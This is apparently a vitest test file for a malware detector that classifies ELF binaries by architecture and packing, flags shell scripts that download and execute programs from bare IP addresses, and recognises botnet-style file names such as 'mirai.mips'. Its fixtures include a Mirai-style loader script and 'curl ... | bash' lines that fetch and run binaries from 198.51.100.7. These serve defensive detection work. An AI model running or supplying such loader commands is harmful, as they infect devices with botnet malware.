import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { seeded } from '../../testing/seeded.ts'
import { elf } from '../../testing/programs.ts'
import { isNamedForMachine, readElf, readScript, startsScript } from './program.ts'

const bytes = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0))
const of = (b: Uint8Array) => readElf(b, 0, b.length)
const script = (text: string) => readScript(bytes(text), 0, text.length)

describe('an ELF file', () => {
  it('says what machine it is for, in both byte orders and both sizes', () => {
    expect(of(elf({ machine: 8 }))).toEqual({ machine: 'MIPS', executable: true, static: true, bare: false })
    expect(of(elf({ machine: 40, little: true }))).toMatchObject({ machine: 'ARM' })
    expect(of(elf({ machine: 183, little: true, wide: true }))).toMatchObject({ machine: 'ARM64', static: true })
    expect(of(elf({ machine: 22, wide: true }))).toMatchObject({ machine: 's390', static: true })
    expect(of(elf({ machine: 999 }))).toMatchObject({ machine: 'machine 999' })
  })

  it('needs libraries, or is one, or is a part of a program', () => {
    expect(of(elf({ interpreter: true, dynamic: true }))).toMatchObject({ executable: true, static: false })
    expect(of(elf({ type: 3, interpreter: true, dynamic: true }))).toMatchObject({ executable: true, static: false })
    expect(of(elf({ type: 3, dynamic: true }))).toMatchObject({ executable: false, static: false })
    expect(of(elf({ type: 1 }))).toMatchObject({ executable: false })
  })

  it('is bare without sections, or with the mark of UPX', () => {
    expect(of(elf({ sections: false }))).toMatchObject({ bare: true })
    const packed = elf()
    packed.set(bytes('UPX!'), 120)
    expect(of(packed)).toMatchObject({ bare: true })
  })

  it('is this very program, which is for the machine that runs the test', () => {
    const own = readFileSync(process.execPath).subarray(0, 4096)
    const machine = { x64: 'x86-64', arm64: 'ARM64' }[process.arch as string]
    expect(of(own)).toMatchObject({ ...(machine !== undefined && { machine }), executable: true, static: false })
  })

  it('is read as far as it is there', () => {
    const whole = elf({ interpreter: true, dynamic: true })
    expect(readElf(whole, 0, 40)).toEqual({ machine: 'MIPS', executable: true, bare: false })
    expect(readElf(whole, 0, 60)).toEqual({ machine: 'MIPS', executable: true, bare: false })
    expect(readElf(whole, 0, 19)).toBeUndefined()
  })

  it('is none with a wrong class, byte order or version', () => {
    for (const at of [0, 4, 5, 6]) {
      const wrong = elf()
      wrong[at] = 9
      expect(of(wrong)).toBeUndefined()
    }
  })

  it('never throws, whatever its header says', () => {
    const below = seeded(7)
    for (let i = 0; i < 5000; i++) {
      const hostile = elf({ wide: i % 2 === 0, little: i % 3 === 0, size: 300 })
      for (let n = 0; n < 12; n++) hostile[7 + below(80)] = below(256)
      expect(of(hostile)?.machine).toBeTypeOf('string')
      readElf(hostile, 0, below(300))
    }
  })
})

const LOADER = `#!/bin/sh
cd /tmp || cd /var/run || cd /mnt
wget http://198.51.100.7/bins/m.mips; chmod +x m.mips; ./m.mips; rm -rf m.mips
wget http://198.51.100.7/bins/m.arm7; chmod +x m.arm7; ./m.arm7; rm -rf m.arm7
tftp -r m.sh4 -g 198.51.100.7; sh m.sh4
`

describe('a shell script', () => {
  it('fetches programs and starts them', () => {
    expect(script(LOADER)).toEqual({
      urls: ['http://198.51.100.7/bins/m.mips', 'http://198.51.100.7/bins/m.arm7'],
      fetches: 3,
      nameless: 3,
      starts: true,
    })
    expect(script('#!/bin/bash\ncurl -s http://198.51.100.7:8000/x.sh | bash\n')).toMatchObject({ fetches: 1, nameless: 1 })
    expect(
      script('#!/bin/sh\nSRV="198.51.100.7:81"\nfor a in mips arm; do wget http://$SRV/$a -O .x; chmod 777 .x; ./.x; done\n'),
    ).toMatchObject({ fetches: 1, nameless: 1 })
  })

  it('is told from one whose servers have names', () => {
    expect(script('#!/bin/sh\nwget -O /tmp/a http://downloads.example.org/1.2.3.4.5/a.sh\nsh /tmp/a\n')).toMatchObject({
      fetches: 1,
      nameless: 0,
    })
  })

  it('is nothing where it fetches nothing, or does not start it', () => {
    expect(script('#!/bin/sh\nchmod +x /etc/init.d/x\n./x start\n')).toBeUndefined()
    expect(script('#!/bin/sh\nwget -q http://198.51.100.7/weather.json\n')).toBeUndefined()
    expect(script('#!/bin/sh\necho no more wgets; sh -c true\n')).toBeUndefined()
  })

  it('begins as scripts begin', () => {
    const starts = (text: string) => startsScript(bytes(text), 0, text.length)
    expect(['#!/bin/sh\n', '#! /bin/sh\n', 'cd /tmp;wget', '/bin/busybox wget x', 'wget http://x'].map(starts)).toEqual(
      Array(5).fill(true),
    )
    expect(['<html><body>', 'curling up', '#include <x>', '{"cd":"/tmp"}', 'cd'].map(starts)).toEqual(Array(5).fill(false))
  })

  it('is read in linear time, whatever is in it', () => {
    for (const evil of [
      'wget '.repeat(2000),
      `wget ${'1.'.repeat(4000)}`,
      `curl http://${'a.'.repeat(4000)}`,
      '; sh '.repeat(2000),
    ])
      expect(() => script(`#!/bin/sh\n${evil}`)).not.toThrow()
    // more than is looked at is not looked at
    expect(script(`#!/bin/sh\n${'#'.repeat(5000)}\n${LOADER}`)).toBeUndefined()
  })
})

describe("a file's name", () => {
  it('is that of a machine', () => {
    const names =
      'mirai.mips mirai.mpsl bot.arm7 x86_64 arm arm5n hoho.sh4 yak.m68k okami.i586 a-mipsel w.spc armv7l jaws.ppc440fp'
    expect(names.split(' ').filter((name) => !isNamedForMachine(name))).toEqual([])
  })

  it('is not', () => {
    const names =
      'alarm charm firmware.bin smart update.arm.zip arms search index.html swarm7 upload farm.jpg libx86 compass parc'
    expect(names.split(' ').filter(isNamedForMachine)).toEqual([])
  })
})
